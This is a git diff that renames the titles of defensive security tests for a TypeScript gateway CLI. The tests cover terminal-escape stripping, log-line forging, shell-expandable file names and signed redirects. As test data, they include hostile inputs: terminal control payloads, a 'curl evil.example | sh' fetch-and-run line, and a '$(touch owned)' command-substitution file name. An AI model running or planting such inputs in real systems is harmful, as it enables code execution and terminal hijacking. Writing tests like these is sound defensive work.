@@ -29,7 +29,7 @@ const serve = async (answer: RequestListener): Promise<string> => {
 const KNOWN_TO_ALL = `0x${'1'.repeat(64)}` as const;
 const person = { address: privateKeyToAddress(KNOWN_TO_ALL), privateKey: KNOWN_TO_ALL };
 
-/** A directory that somebody else has made, with a description of a stack that is none. */
+/** Writes the stack file of an attacker's directory. */
 const putStack = async (gateway: string): Promise<void> => {
   const rest = { audience: gateway, rpc: gateway, chainId: 84_532, facilitator: gateway };
   const people = { operator: person, owner: person, agent: person, agents: [person] };
@@ -40,7 +40,7 @@ const putStack = async (gateway: string): Promise<void> => {
 
 const ESC = String.fromCharCode(27);
 
-test('a refusal steers no terminal, neither by its words nor by the names of its members', async () => {
+test('strips terminal controls from texts and member names of a refusal (CWE-150)', async () => {
   const evil = `${ESC}]0;owned${String.fromCharCode(7)}${ESC}[2J`;
   const origin = await serve((_, response) => {
     response.writeHead(403, { 'content-type': 'application/problem+json' });
@@ -56,7 +56,7 @@ test('a refusal steers no terminal, neither by its words nor by the names of its
   expect(stderr).not.toContain(ESC);
 });
 
-test('nor does a gateway that `doctor` asks, nor a label', async () => {
+test('strips terminal controls from the answers that `doctor` prints', async () => {
   const evil = `${ESC}[2Jx`;
   const origin = await serve((request, response) => {
     if (request.url === '/healthz') {
@@ -76,21 +76,21 @@ test('nor does a gateway that `doctor` asks, nor a label', async () => {
   expect(stdout + stderr).not.toContain(ESC);
 });
 
-test('whatever a command says, only colours reach the terminal', () => {
+test('lets no control sequence but colours reach the terminal', () => {
   const csi = String.fromCharCode(0x9b);
   const said = `${ESC}[31mred${ESC}[0m ${ESC}]0;owned${String.fromCharCode(7)} ${csi}2J\r\n\tend`;
   expect(harmless(said)).toBe(`${ESC}[31mred${ESC}[0m ]0;owned 2J\n\tend`);
   expect(jsonOf({ label: csi })).toBe('{"label":"\\u009b"}');
 });
 
-test('a line end in a value makes no line that looks like one of ours', () => {
+test('prevents a line end in a value from forging a line (CWE-117)', () => {
   const columns = [{ title: 'LABEL' }, { title: 'STATUS' }];
   expect(table(columns, [['a  active\nb', 'frozen']], 80).split('\n')).toHaveLength(2);
   const shown = fields([['detail', 'fine\nnext   curl evil.example | sh']]);
   expect(shown.split('\n').filter((line) => line.startsWith('next'))).toEqual([]);
 });
 
-test('a directory names no gateway but one on this machine', async () => {
+test('ignores a stack file that names a gateway on another machine', async () => {
   await putStack('https://evil.example');
   await putKey(home(), 'treasury', SOME_KEY);
   const words = ['credits', 'top-up', '$5', '--as', 'treasury', '--json'];
@@ -99,7 +99,7 @@ test('a directory names no gateway but one on this machine', async () => {
   expect(stdout).toContain('does not know which gateway to call');
 });
 
-test('nobody whose key is known to everybody is granted anything elsewhere', async () => {
+test('refuses to grant to a public key at a gateway on another machine', async () => {
   await putStack('http://127.0.0.1:8787');
   await putKey(home(), 'treasury', SOME_KEY);
   const remote = ['--gateway', 'https://gateway.example', '--as', 'treasury', '--json'];
@@ -108,7 +108,7 @@ test('nobody whose key is known to everybody is granted anything elsewhere', asy
   expect(code).toBe(4);
 });
 
-test('a password in a URL is not called, and not repeated', async () => {
+test('rejects a URL with a password without repeating it', async () => {
   await putKey(home(), 'treasury', SOME_KEY);
   const url = 'https://me:hunter22@gateway.example/x';
   const { code, stdout, stderr } = await pipe(known(), ['call', url, '--as', 'treasury', '--json']);
@@ -116,7 +116,7 @@ test('a password in a URL is not called, and not repeated', async () => {
   expect(stdout + stderr).not.toContain('hunter22');
 });
 
-test('a file name among the keys is not given to a shell', async () => {
+test('completes no file name that a shell would expand', async () => {
   await putKey(home(), 'treasury', SOME_KEY);
   await writeFile(join(home().home, 'keys', '$(touch owned).json'), '{}');
   const { stdout } = await pipe(home(), ['complete', '--', 'call', '--as', '']);
@@ -124,7 +124,7 @@ test('a file name among the keys is not given to a shell', async () => {
   expect(stdout).not.toContain('touch');
 });
 
-test('an address that redirects is given no signature for another one', async () => {
+test('follows no redirect with a signed request', async () => {
   const seen: string[] = [];
   const other = await serve((request, response) => {
     seen.push(...Object.keys(request.headers).filter((name) => /intent|payment/.test(name)));
@@ -145,7 +145,7 @@ test('an address that redirects is given no signature for another one', async ()
   expect(seen).toEqual([]);
 });
 
-test('`tail` ends where nobody answers, on every version of Node', async () => {
+test('ends `tail` when the gateway refuses the feed, on every version of Node', async () => {
   await putKey(home(), 'treasury', SOME_KEY);
   const origin = await serve((request, response) => {
     if (request.url?.startsWith('/.well-known/') === true) {
